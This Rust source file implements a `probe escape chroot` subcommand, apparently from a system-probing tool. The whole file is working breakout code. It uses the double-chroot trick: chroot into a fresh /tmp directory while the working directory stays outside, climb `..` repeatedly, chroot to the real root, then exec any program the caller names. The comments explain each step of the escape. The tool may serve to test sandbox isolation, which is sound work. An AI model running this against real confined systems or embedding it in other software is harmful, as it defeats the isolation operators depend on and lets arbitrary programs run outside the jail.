//! `probe escape chroot`: the way out of a root directory that was only changed.
//!
//! `chroot(2)` moves one pointer of the process. The directories above the new root are still
//! there, and `..` leads to them from everywhere but the root itself. So: move the root below
//! the working directory, and climb.

use std::fs;
use std::os::unix::fs::{MetadataExt, chroot};
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::Command;

use crate::Outcome;
use crate::args::Args;

/// No tree is deeper; at the top `..` leads nowhere, so too often does no harm.
const DEPTH: usize = 1024;

/// Escapes, says where it is now, and becomes the program it was given, if any.
pub fn run(words: Vec<String>) -> Outcome {
    let mut args = Args::new(words);
    let wall: String = args.word("what to escape from")?;
    if wall != "chroot" {
        return Err(format!("there is no way out of {wall:?}; there is one out of chroot"));
    }
    let before = root()?;
    leave()?;
    if root()? == before {
        return Err("still inside: `/..` is `/` here".into());
    }
    println!("escaped: / is another directory now");
    args.become_program()
}

/// Which directory `/` is: its device and inode.
fn root() -> Result<(u64, u64), String> {
    let root = fs::metadata("/").map_err(|error| format!("cannot look at /: {error}"))?;
    Ok((root.dev(), root.ino()))
}

fn leave() -> Outcome {
    let below = PathBuf::from(format!("/tmp/.escape-{}", std::process::id()));
    let failed = |what: &str, error| format!("{what}: {error}");
    std::env::set_current_dir("/").map_err(|error| failed("chdir(\"/\")", error))?;
    fs::create_dir_all(&below).map_err(|error| failed("mkdir", error))?;
    // The working directory stays behind, above the new root: that is the hole.
    let moved = chroot(&below);
    // From the working directory it can still be reached.
    let _ = fs::remove_dir(below.strip_prefix("/").unwrap_or(&below));
    moved.map_err(|error| failed("chroot", error))?;
    for _ in 0..DEPTH {
        std::env::set_current_dir("..").map_err(|error| failed("chdir(\"..\")", error))?;
    }
    chroot(".").map_err(|error| failed("chroot(\".\")", error))
}

impl Args {
    /// Becomes the program that the words left name; without words, returns.
    fn become_program(mut self) -> Outcome {
        let Ok(program) = self.word::<String>("the program") else { return Ok(()) };
        let words: Vec<String> = std::iter::from_fn(|| self.word("").ok()).collect();
        Err(format!("{program}: {}", Command::new(&program).args(words).exec()))
    }
}
